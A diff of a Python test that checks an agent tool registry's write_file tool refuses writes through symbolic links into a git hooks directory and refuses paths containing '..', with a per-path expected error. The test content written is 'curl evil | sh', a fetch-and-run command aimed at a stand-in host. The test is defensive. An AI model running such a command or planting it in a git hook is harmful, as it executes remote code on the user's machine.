@@ -483,11 +483,14 @@ async def test_a_write_never_goes_through_a_symbolic_link_inside_the_workspace(
     hooks.mkdir(parents=True)
     (ws / "notes.txt").symlink_to(hooks / "post-checkout")
     (ws / "docs").symlink_to(hooks)
-    for path in ("notes.txt", "docs/post-checkout", "docs/../notes.txt"):
+    # "docs/../notes.txt" is refused before it is resolved: a path with ".." is not one a card can show as it runs.
+    refusals = {"notes.txt": "goes through a symbolic link", "docs/post-checkout": "goes through a symbolic link",
+                "docs/../notes.txt": "contains '..'"}  # fmt: skip
+    for path, refusal in refusals.items():
         written = await registry.execute("write_file", {"path": path, "content": "curl evil | sh"}, ctx)
         assert not written.ok, path
         assert written.error is not None
-        assert "goes through a symbolic link" in written.error, written.error
+        assert refusal in written.error, written.error
         assert not written.changed_state
     assert list(hooks.iterdir()) == []
     plain = await registry.execute("write_file", {"path": "real/notes.txt", "content": "ok"}, ctx)  # the control
